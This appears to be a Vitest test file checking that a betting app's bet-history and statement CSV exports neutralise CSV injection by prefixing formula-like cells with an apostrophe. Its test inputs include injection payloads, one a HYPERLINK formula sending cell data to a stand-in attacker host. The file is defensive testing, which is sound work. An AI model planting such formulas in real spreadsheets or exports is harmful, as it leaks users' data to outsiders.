import { describe, expect, it } from 'vitest';
import type { BetHistoryItem, BetResult, TransactionItem } from '@/api/generated/types.gen';
import { betHistoryCsv, statementCsv } from '@/features/account/model/history-csv';

// CSV injection (OWASP): the export's names come from the server, and fancy markets are named by hand
// by operators. A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a
// formula; such a text opens as text, while an amount such as -500 stays a number.

/** The cells of a CSV as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes, CRLF rows). */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < csv.length; index += 1) {
    const char = csv[index];
    if (quoted) {
      if (char === '"' && csv[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && csv[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  return rows;
}

/** What a spreadsheet would run as a formula: a cell that starts with one of OWASP's characters. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?[\d,]+(\.\d+)?$/.test(cell);

const HOSTILE = ['=1+1', '@SUM(A1)', '+919800000000', '-2+3', '\tX', '\rX', '=HYPERLINK("https://evil.example/?"&A1,"x")'];

function bet(change: Partial<BetHistoryItem>): BetHistoryItem {
  return {
    betId: 1,
    betTitle: 'India v Australia',
    marketName: 'Match Odds',
    runnerName: 'India',
    betType: 'Back',
    odds: 1.85,
    stake: 500,
    profitLoss: -500,
    result: 'LOST',
    placeTime: '2026-11-26T10:00:00Z',
    settleTime: '2026-11-26T12:00:00Z',
    ...change,
  };
}

describe('the history export never writes a formula', () => {
  it.each(HOSTILE)('a bet, market and runner named %j open as text, the amounts as numbers', (name) => {
    const named = bet({ betTitle: name, marketName: name, runnerName: `${name} runner`, result: name as BetResult });
    const [, row] = readCsv(betHistoryCsv([named]));
    expect(row).toHaveLength(9);
    const [title, selection, , odds, stake, profitLoss, result] = row ?? [];
    expect(title).toBe(`'${name}`);
    expect(selection).toBe(`'${name} runner (${name})`);
    expect(result).toBe(`'${name}`);
    expect([odds, stake, profitLoss]).toEqual(['1.85', '500', '-500']);
    for (const cell of row ?? []) expect(runsAsFormula(cell)).toBe(false);
  });

  it.each(HOSTILE)('a statement line described %j opens as text, a debit of 1,500 as a number', (description) => {
    const item: TransactionItem = { id: 1, date: '2026-11-26T10:00:00Z', description, credit: 0, debit: 1500, balance: -500 };
    const [, row] = readCsv(statementCsv([item]));
    expect(row?.slice(1)).toEqual([`'${description}`, '0', '1,500', '-500']);
    for (const cell of row ?? []) expect(runsAsFormula(cell)).toBe(false);
  });

  it('leaves a plain name and a negative profit as they were', () => {
    const csv = betHistoryCsv([bet({ betTitle: 'Mumbai v Chennai', profitLoss: -1000.5 })]);
    expect(csv.split('\r\n')[1]).toMatch(/^Mumbai v Chennai,India \(Match Odds\),Back,1\.85,500,"-1,000\.5",LOST,/);
  });

  it('writes a number the server sent in the wrong shape as text, never as a formula', () => {
    const odd = bet({ odds: '=1+1' as unknown as number });
    const [, row] = readCsv(betHistoryCsv([odd]));
    expect(row?.[3]).toBe("'=1+1");
  });
});
